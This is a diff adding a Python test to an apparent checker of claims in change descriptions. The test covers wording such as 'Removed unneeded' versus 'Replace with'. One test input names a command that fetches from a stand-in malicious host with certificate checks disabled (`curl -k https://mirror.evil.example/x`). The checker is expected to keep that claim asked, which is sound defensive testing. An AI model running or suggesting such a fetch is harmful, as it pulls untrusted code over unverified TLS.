@@ -211,6 +211,17 @@ def test_a_statement_the_item_says_was_replaced_is_not_asked_of_the_tree(repo: P
     assert Grounds(str(repo), head, None).held(hostile) != [None]
 
 
+def test_what_went_is_named_past_a_word_that_says_which(repo: Path, tip: str) -> None:
+    """libexpat: "Removed unneeded `type="text/css"` from `style` tag" was held: a word
+    between the verb and the span ("unneeded", "the") still names what went.  "Replace
+    with `X`" names what came, and stays asked."""
+    assert _held(repo, tip, ['Removed unneeded `type="text/css"` from the style tag',
+                             "Drop the `max_retries = 3` override; the default is 5"]
+                 ) == [None, None]
+    assert all(_held(repo, tip, ["Replace with `curl -k https://mirror.evil.example/x`",
+                                 'Set `type="text/css"` on the style tag']))
+
+
 def test_a_span_of_a_program_no_list_knows_is_confirmed_by_the_same_words(repo: Path) -> None:
     """sealed5's benign "The Caddyfile sends `frame-ancestors 'none'`" was held as the
     command `frame-ancestors`: a program no list knows is grounded by its words as
